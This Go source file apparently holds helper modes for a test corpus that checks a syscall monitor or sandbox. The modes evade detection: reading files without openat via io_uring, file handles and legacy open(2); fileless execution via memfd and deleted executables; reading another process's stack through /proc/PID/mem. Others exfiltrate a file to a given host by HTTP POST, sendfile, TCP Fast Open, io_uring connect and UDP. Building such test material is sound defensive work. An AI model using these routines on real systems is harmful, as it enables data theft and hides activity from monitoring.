package evasion

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"runtime"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

// The test binary doubles as the corpus's syscall-level tool: with
// helperEnv=1 in its environment, TestMain runs os.Args[1] as a helper mode
// with the rest as its arguments and exits, so a technique script calls
// "$AW_HELPER" <mode> <args...>. It is the same binary on the host
// (os.Executable) and in the guest (/test.bin), which has no python3 or
// compiler. Every mode does exactly the syscalls its name says, reports
// what it did on stderr, prints the bytes it read on stdout, and exits
// non-zero (failing the technique) when a step fails.
const helperEnv = "AW_EVASION_HELPER"

var helperModes = map[string]func(args []string) error{
	"handle-read":   handleRead,
	"uring-openat":  func(a []string) error { return uringRead(a, false) },
	"uring-openat2": func(a []string) error { return uringRead(a, true) },
	"openat2-read":  openat2Read,
	"legacy-open":   legacyOpenRead,
	"openat-dirfd":  openatDirfdRead,
	"procmem":       procMem,
	"memfd-exec":    memfdExec,
	"deleted-exec":  deletedExec,
	"http-post":     httpPost,
	"sendfile":      sendfileTCP,
	"fchmodat":      fchmodat,
	"creat":         creat,
	"tfo-send":      tfoSend,
	"uring-connect": uringConnect,
	"udp-sendto":    udpSendto,
	"print-version": func([]string) error { fmt.Println("aw-evasion-helper"); return nil },
}

func runHelper(args []string) int {
	if len(args) == 0 {
		fmt.Fprintln(os.Stderr, "aw-helper: no mode")
		return 2
	}
	f, ok := helperModes[args[0]]
	if !ok {
		fmt.Fprintf(os.Stderr, "aw-helper: unknown mode %q\n", args[0])
		return 2
	}
	if err := f(args[1:]); err != nil {
		fmt.Fprintf(os.Stderr, "aw-helper %s: %v\n", args[0], err)
		return 1
	}
	return 0
}

func logf(format string, a ...any) { fmt.Fprintf(os.Stderr, "aw-helper: "+format+"\n", a...) }

func need(args []string, n int, usage string) error {
	if len(args) < n {
		return fmt.Errorf("usage: %s", usage)
	}
	return nil
}

// readFD reads an fd to its end with read(2) and prints what it read.
func readFD(fd int) error {
	var out []byte
	buf := make([]byte, 4096)
	for {
		n, err := unix.Read(fd, buf)
		if err == unix.EINTR {
			continue
		}
		if err != nil {
			return fmt.Errorf("read fd %d: %w", fd, err)
		}
		if n == 0 {
			break
		}
		out = append(out, buf[:n]...)
	}
	if len(out) == 0 {
		return fmt.Errorf("fd %d: read no bytes", fd)
	}
	logf("read %d bytes from fd %d", len(out), fd)
	_, err := os.Stdout.Write(out)
	return err
}

// handleRead: name_to_handle_at(path), then open_by_handle_at on an fd of
// mountDir (any file on the same filesystem), then read. The open names
// no path at all.
func handleRead(args []string) error {
	if err := need(args, 2, "handle-read PATH MOUNT_DIR"); err != nil {
		return err
	}
	h, mountID, err := unix.NameToHandleAt(unix.AT_FDCWD, args[0], 0)
	if err != nil {
		return fmt.Errorf("name_to_handle_at %s: %w", args[0], err)
	}
	mfd, err := unix.Open(args[1], unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("open mount dir %s: %w", args[1], err)
	}
	defer unix.Close(mfd)
	fd, err := unix.OpenByHandleAt(mfd, h, unix.O_RDONLY|unix.O_CLOEXEC)
	if err != nil {
		return fmt.Errorf("open_by_handle_at (type %d, %d bytes, mount %d): %w", h.Type(), h.Size(), mountID, err)
	}
	defer unix.Close(fd)
	logf("open_by_handle_at: handle type %d, %d bytes, mount id %d -> fd %d", h.Type(), h.Size(), mountID, fd)
	return readFD(fd)
}

// io_uring without liburing: the ABI of include/uapi/linux/io_uring.h.
const (
	ioringOpConnect = 16
	ioringOpOpenat  = 18
	ioringOpRead    = 22
	ioringOpOpenat2 = 28

	ioringOffSQRing = 0
	ioringOffCQRing = 0x8000000
	ioringOffSQEs   = 0x10000000

	ioringEnterGetevents = 1
	sqeSize              = 64
	cqeSize              = 16
)

type sqringOffsets struct {
	Head, Tail, RingMask, RingEntries, Flags, Dropped, Array, Resv1 uint32
	UserAddr                                                        uint64
}

type cqringOffsets struct {
	Head, Tail, RingMask, RingEntries, Overflow, Cqes, Flags, Resv1 uint32
	UserAddr                                                        uint64
}

type uringParams struct {
	SQEntries, CQEntries, Flags, SQThreadCPU, SQThreadIdle, Features, WQFd uint32
	Resv                                                                   [3]uint32
	SQOff                                                                  sqringOffsets
	CQOff                                                                  cqringOffsets
}

type uringSQE struct {
	Opcode      uint8
	Flags       uint8
	Ioprio      uint16
	Fd          int32
	Off         uint64 // also addr2: the open_how of OPENAT2
	Addr        uint64
	Len         uint32
	OpFlags     uint32 // open_flags, rw_flags
	UserData    uint64
	BufIndex    uint16
	Personality uint16
	FileIndex   int32
	Addr3       uint64
	Pad         uint64
}

type uring struct {
	fd       int
	p        uringParams
	sq, cq   []byte
	sqes     []byte
	userData uint64
}

func newUring() (*uring, error) {
	if unsafe.Sizeof(uringSQE{}) != sqeSize || unsafe.Sizeof(uringParams{}) != 120 {
		return nil, errors.New("io_uring struct layout mismatch")
	}
	r := &uring{}
	fd, _, errno := unix.Syscall(unix.SYS_IO_URING_SETUP, 4, uintptr(unsafe.Pointer(&r.p)), 0)
	if errno != 0 {
		return nil, fmt.Errorf("io_uring_setup: %w", errno)
	}
	r.fd = int(fd)
	var err error
	mm := func(off int64, size uint32) ([]byte, error) {
		return unix.Mmap(r.fd, off, int(size), unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED|unix.MAP_POPULATE)
	}
	if r.sq, err = mm(ioringOffSQRing, r.p.SQOff.Array+r.p.SQEntries*4); err != nil {
		return nil, fmt.Errorf("mmap sq ring: %w", err)
	}
	if r.cq, err = mm(ioringOffCQRing, r.p.CQOff.Cqes+r.p.CQEntries*cqeSize); err != nil {
		return nil, fmt.Errorf("mmap cq ring: %w", err)
	}
	if r.sqes, err = mm(ioringOffSQEs, r.p.SQEntries*sqeSize); err != nil {
		return nil, fmt.Errorf("mmap sqes: %w", err)
	}
	logf("io_uring_setup: fd %d, %d sq entries, features %#x", r.fd, r.p.SQEntries, r.p.Features)
	return r, nil
}

func u32(b []byte, off uint32) *uint32 { return (*uint32)(unsafe.Pointer(&b[off])) }

// submit queues one SQE, enters the kernel until it completes and returns
// the CQE's res (an fd, a byte count, or -errno).
func (r *uring) submit(e uringSQE) (int32, error) {
	r.userData++
	e.UserData = r.userData
	tail := atomic.LoadUint32(u32(r.sq, r.p.SQOff.Tail))
	idx := tail & *u32(r.sq, r.p.SQOff.RingMask)
	*(*uringSQE)(unsafe.Pointer(&r.sqes[idx*sqeSize])) = e
	*u32(r.sq, r.p.SQOff.Array+idx*4) = idx
	atomic.StoreUint32(u32(r.sq, r.p.SQOff.Tail), tail+1)
	for {
		_, _, errno := unix.Syscall6(unix.SYS_IO_URING_ENTER, uintptr(r.fd), 1, 1, ioringEnterGetevents, 0, 0)
		if errno == unix.EINTR {
			continue
		}
		if errno != 0 {
			return 0, fmt.Errorf("io_uring_enter: %w", errno)
		}
		break
	}
	head := atomic.LoadUint32(u32(r.cq, r.p.CQOff.Head))
	if head == atomic.LoadUint32(u32(r.cq, r.p.CQOff.Tail)) {
		return 0, errors.New("io_uring_enter returned without a completion")
	}
	off := r.p.CQOff.Cqes + (head&*u32(r.cq, r.p.CQOff.RingMask))*cqeSize
	ud := *(*uint64)(unsafe.Pointer(&r.cq[off]))
	res := *(*int32)(unsafe.Pointer(&r.cq[off+8]))
	atomic.StoreUint32(u32(r.cq, r.p.CQOff.Head), head+1)
	if ud != e.UserData {
		return 0, fmt.Errorf("completion for request %d, want %d", ud, e.UserData)
	}
	return res, nil
}

// uringRead opens path with IORING_OP_OPENAT (or OPENAT2) and reads it
// with IORING_OP_READ: neither openat(2) nor read(2) is called.
func uringRead(args []string, openat2 bool) error {
	if err := need(args, 1, "uring-openat[2] PATH"); err != nil {
		return err
	}
	r, err := newUring()
	if err != nil {
		return err
	}
	path := append([]byte(args[0]), 0)
	how := &unix.OpenHow{Flags: unix.O_RDONLY | unix.O_CLOEXEC}
	e := uringSQE{Opcode: ioringOpOpenat, Fd: unix.AT_FDCWD, Addr: uint64(uintptr(unsafe.Pointer(&path[0]))),
		OpFlags: unix.O_RDONLY | unix.O_CLOEXEC}
	op := "IORING_OP_OPENAT"
	if openat2 {
		op = "IORING_OP_OPENAT2"
		e = uringSQE{Opcode: ioringOpOpenat2, Fd: unix.AT_FDCWD, Addr: uint64(uintptr(unsafe.Pointer(&path[0]))),
			Off: uint64(uintptr(unsafe.Pointer(how))), Len: uint32(unsafe.Sizeof(*how))}
	}
	fd, err := r.submit(e)
	runtime.KeepAlive(path)
	runtime.KeepAlive(how)
	if err != nil {
		return err
	}
	if fd < 0 {
		return fmt.Errorf("%s %s: %w", op, args[0], unix.Errno(-fd))
	}
	logf("%s %s -> fd %d", op, args[0], fd)
	buf := make([]byte, 64<<10)
	n, err := r.submit(uringSQE{Opcode: ioringOpRead, Fd: fd, Addr: uint64(uintptr(unsafe.Pointer(&buf[0]))), Len: uint32(len(buf))})
	runtime.KeepAlive(buf)
	if err != nil {
		return err
	}
	if n <= 0 {
		return fmt.Errorf("IORING_OP_READ fd %d: res %d", fd, n)
	}
	logf("IORING_OP_READ fd %d -> %d bytes", fd, n)
	_, err = os.Stdout.Write(buf[:n])
	return err
}

// openat2Read: the openat2(2) syscall (struct open_how), then read.
func openat2Read(args []string) error {
	if err := need(args, 1, "openat2-read PATH"); err != nil {
		return err
	}
	fd, err := unix.Openat2(unix.AT_FDCWD, args[0], &unix.OpenHow{Flags: unix.O_RDONLY | unix.O_CLOEXEC, Resolve: unix.RESOLVE_NO_MAGICLINKS})
	if err != nil {
		return fmt.Errorf("openat2 %s: %w", args[0], err)
	}
	defer unix.Close(fd)
	logf("openat2 %s -> fd %d", args[0], fd)
	return readFD(fd)
}

// legacyOpenRead: open(2) (syscall 2), not openat(2), which libc and Go use.
func legacyOpenRead(args []string) error {
	if err := need(args, 1, "legacy-open PATH"); err != nil {
		return err
	}
	p, err := unix.BytePtrFromString(args[0])
	if err != nil {
		return err
	}
	fd, _, errno := unix.Syscall(unix.SYS_OPEN, uintptr(unsafe.Pointer(p)), unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if errno != 0 {
		return fmt.Errorf("open(2) %s: %w", args[0], errno)
	}
	defer unix.Close(int(fd))
	logf("open(2) %s -> fd %d", args[0], fd)
	return readFD(int(fd))
}

// openatDirfdRead opens DIR, then NAME relative to that fd: the open
// itself names only the basename.
func openatDirfdRead(args []string) error {
	if err := need(args, 2, "openat-dirfd DIR NAME"); err != nil {
		return err
	}
	dfd, err := unix.Open(args[0], unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("open dir %s: %w", args[0], err)
	}
	defer unix.Close(dfd)
	fd, err := unix.Openat(dfd, args[1], unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("openat(%d, %s): %w", dfd, args[1], err)
	}
	defer unix.Close(fd)
	logf("openat(dirfd %d = %s, %q) -> fd %d", dfd, args[0], args[1], fd)
	return readFD(fd)
}

// procMem reads another process's stack through /proc/PID/mem (open +
// pread at the [stack] range of /proc/PID/maps) and prints the
// NUL-terminated string that starts with NEEDLE.
func procMem(args []string) error {
	if err := need(args, 2, "procmem PID NEEDLE"); err != nil {
		return err
	}
	pid := args[0]
	maps, err := os.ReadFile("/proc/" + pid + "/maps")
	if err != nil {
		return err
	}
	var lo, hi uint64
	for _, line := range strings.Split(string(maps), "\n") {
		if !strings.HasSuffix(line, "[stack]") {
			continue
		}
		rng, _, _ := strings.Cut(line, " ")
		a, b, _ := strings.Cut(rng, "-")
		lo, _ = strconv.ParseUint(a, 16, 64)
		hi, _ = strconv.ParseUint(b, 16, 64)
	}
	if hi <= lo {
		return fmt.Errorf("no [stack] in /proc/%s/maps", pid)
	}
	fd, err := unix.Open("/proc/"+pid+"/mem", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("open /proc/%s/mem: %w", pid, err)
	}
	defer unix.Close(fd)
	buf := make([]byte, hi-lo)
	n, err := unix.Pread(fd, buf, int64(lo))
	if err != nil {
		return fmt.Errorf("pread /proc/%s/mem at %#x: %w", pid, lo, err)
	}
	logf("pread /proc/%s/mem [%#x, %#x): %d bytes", pid, lo, hi, n)
	i := bytes.Index(buf[:n], []byte(args[1]))
	if i < 0 {
		return fmt.Errorf("%q not in the stack of %s", args[1], pid)
	}
	end := bytes.IndexByte(buf[i:n], 0)
	if end < 0 {
		end = n - i
	}
	fmt.Printf("%s\n", buf[i:i+end])
	return nil
}

// execveat(fd, "", argv, environ, AT_EMPTY_PATH): fexecve.
func fexecve(fd int, argv []string) error {
	argvp, err := syscall.SlicePtrFromStrings(argv)
	if err != nil {
		return err
	}
	envp, err := syscall.SlicePtrFromStrings(os.Environ())
	if err != nil {
		return err
	}
	empty, _ := unix.BytePtrFromString("")
	runtime.LockOSThread()
	_, _, errno := unix.Syscall6(unix.SYS_EXECVEAT, uintptr(fd), uintptr(unsafe.Pointer(empty)),
		uintptr(unsafe.Pointer(&argvp[0])), uintptr(unsafe.Pointer(&envp[0])), unix.AT_EMPTY_PATH, 0)
	return fmt.Errorf("execveat fd %d: %w", fd, errno)
}

// memfdExec copies SRC into a memfd_create file and execs that fd with
// ARGV: the program runs from no file on disk.
func memfdExec(args []string) error {
	if err := need(args, 2, "memfd-exec SRC ARGV0 [ARGS...]"); err != nil {
		return err
	}
	data, err := os.ReadFile(args[0])
	if err != nil {
		return err
	}
	fd, err := unix.MemfdCreate("", unix.MFD_CLOEXEC)
	if err != nil {
		return fmt.Errorf("memfd_create: %w", err)
	}
	for w := data; len(w) > 0; {
		n, err := unix.Write(fd, w)
		if err != nil {
			return fmt.Errorf("write memfd: %w", err)
		}
		w = w[n:]
	}
	logf("memfd_create -> fd %d, %d bytes of %s; execveat(AT_EMPTY_PATH)", fd, len(data), args[0])
	return fexecve(fd, args[1:])
}

// deletedExec opens PATH, unlinks it and execs the fd: the image's file
// is gone before it runs.
func deletedExec(args []string) error {
	if err := need(args, 2, "deleted-exec PATH ARGV0 [ARGS...]"); err != nil {
		return err
	}
	fd, err := unix.Open(args[0], unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("open %s: %w", args[0], err)
	}
	if err := unix.Unlink(args[0]); err != nil {
		return fmt.Errorf("unlink %s: %w", args[0], err)
	}
	logf("opened %s as fd %d, unlinked it; execveat(AT_EMPTY_PATH)", args[0], fd)
	return fexecve(fd, args[1:])
}

// httpPost reads FILE and POSTs it to URL with net/http: one process does
// the sensitive read and the egress.
func httpPost(args []string) error {
	if err := need(args, 2, "http-post FILE URL"); err != nil {
		return err
	}
	data, err := os.ReadFile(args[0])
	if err != nil {
		return err
	}
	resp, err := http.Post(args[1], "application/octet-stream", bytes.NewReader(data))
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	_, _ = io.Copy(io.Discard, resp.Body)
	logf("POST %d bytes of %s to %s: %s", len(data), args[0], args[1], resp.Status)
	if resp.StatusCode/100 != 2 {
		return fmt.Errorf("status %s", resp.Status)
	}
	return nil
}

// sendfileTCP connects to HOST:PORT and sendfile(2)s FILE into the socket:
// the file's bytes never pass through the process's memory.
func sendfileTCP(args []string) error {
	if err := need(args, 2, "sendfile FILE HOST:PORT"); err != nil {
		return err
	}
	ap, err := net.ResolveTCPAddr("tcp4", args[1])
	if err != nil {
		return err
	}
	s, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(s)
	sa := &unix.SockaddrInet4{Port: ap.Port}
	copy(sa.Addr[:], ap.IP.To4())
	if err := unix.Connect(s, sa); err != nil {
		return fmt.Errorf("connect %s: %w", args[1], err)
	}
	f, err := unix.Open(args[0], unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("open %s: %w", args[0], err)
	}
	defer unix.Close(f)
	var st unix.Stat_t
	if err := unix.Fstat(f, &st); err != nil {
		return err
	}
	total := 0
	for total < int(st.Size) {
		n, err := unix.Sendfile(s, f, nil, int(st.Size)-total)
		if err != nil {
			return fmt.Errorf("sendfile: %w", err)
		}
		if n == 0 {
			break
		}
		total += n
	}
	logf("sendfile %s -> %s: %d of %d bytes", args[0], args[1], total, st.Size)
	if total != int(st.Size) {
		return fmt.Errorf("sent %d of %d bytes", total, st.Size)
	}
	return nil
}

// fchmodat(AT_FDCWD, PATH, MODE): what python's os.chmod does, no chmod
// binary in sight.
func fchmodat(args []string) error {
	if err := need(args, 2, "fchmodat MODE PATH"); err != nil {
		return err
	}
	mode, err := strconv.ParseUint(args[0], 8, 32)
	if err != nil {
		return err
	}
	if err := unix.Fchmodat(unix.AT_FDCWD, args[1], uint32(mode), 0); err != nil {
		return fmt.Errorf("fchmodat %s: %w", args[1], err)
	}
	logf("fchmodat %s %#o", args[1], mode)
	return nil
}

// creat writes CONTENT to PATH through creat(2) (syscall 85), not openat.
func creat(args []string) error {
	if err := need(args, 2, "creat PATH CONTENT"); err != nil {
		return err
	}
	p, err := unix.BytePtrFromString(args[0])
	if err != nil {
		return err
	}
	fd, _, errno := unix.Syscall(unix.SYS_CREAT, uintptr(unsafe.Pointer(p)), 0o644, 0)
	if errno != 0 {
		return fmt.Errorf("creat %s: %w", args[0], errno)
	}
	defer unix.Close(int(fd))
	if _, err := unix.Write(int(fd), []byte(args[1])); err != nil {
		return err
	}
	logf("creat(2) %s -> fd %d, wrote %d bytes", args[0], fd, len(args[1]))
	return nil
}

// fileAndSink reads FILE and resolves HOST:PORT (args[0], args[1]): what
// every send mode starts with.
func fileAndSink(args []string, usage string) ([]byte, *unix.SockaddrInet4, error) {
	if err := need(args, 2, usage); err != nil {
		return nil, nil, err
	}
	data, err := os.ReadFile(args[0])
	if err != nil {
		return nil, nil, err
	}
	ap, err := net.ResolveTCPAddr("tcp4", args[1])
	if err != nil {
		return nil, nil, err
	}
	sa := &unix.SockaddrInet4{Port: ap.Port}
	copy(sa.Addr[:], ap.IP.To4())
	return data, sa, nil
}

// tfoSend reads FILE and sends it with sendto(MSG_FASTOPEN): the TCP
// connection is made by the send, no connect(2) is ever called.
func tfoSend(args []string) error {
	data, sa, err := fileAndSink(args, "tfo-send FILE HOST:PORT")
	if err != nil {
		return err
	}
	s, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(s)
	if err := unix.Sendto(s, data, unix.MSG_FASTOPEN, sa); err != nil {
		return fmt.Errorf("sendto(MSG_FASTOPEN) %s: %w", args[1], err)
	}
	logf("tfo-send %s -> %s: %d bytes", args[0], args[1], len(data))
	return unix.Shutdown(s, unix.SHUT_WR)
}

// uringConnect reads FILE, connects with IORING_OP_CONNECT and writes the
// bytes: the connect is no syscall of the process.
func uringConnect(args []string) error {
	data, sa, err := fileAndSink(args, "uring-connect FILE HOST:PORT")
	if err != nil {
		return err
	}
	s, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(s)
	// struct sockaddr_in, by hand: the SQE points at it
	var raw [16]byte
	raw[0] = unix.AF_INET
	raw[2], raw[3] = byte(sa.Port>>8), byte(sa.Port)
	copy(raw[4:8], sa.Addr[:])
	r, err := newUring()
	if err != nil {
		return err
	}
	res, err := r.submit(uringSQE{Opcode: ioringOpConnect, Fd: int32(s), Addr: uint64(uintptr(unsafe.Pointer(&raw[0]))), Off: uint64(len(raw))})
	if err != nil {
		return err
	}
	if res < 0 {
		return fmt.Errorf("IORING_OP_CONNECT %s: %w", args[1], unix.Errno(-res))
	}
	if _, err := unix.Write(s, data); err != nil {
		return err
	}
	logf("uring-connect %s -> %s: %d bytes", args[0], args[1], len(data))
	return unix.Shutdown(s, unix.SHUT_WR)
}

// udpSendto reads FILE and sends it in one datagram from an unconnected UDP
// socket: no connect(2), an address on the send.
func udpSendto(args []string) error {
	data, sa, err := fileAndSink(args, "udp-sendto FILE HOST:PORT")
	if err != nil {
		return err
	}
	s, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(s)
	if err := unix.Sendto(s, data, 0, sa); err != nil {
		return fmt.Errorf("sendto %s: %w", args[1], err)
	}
	logf("udp-sendto %s -> %s: %d bytes", args[0], args[1], len(data))
	return nil
}
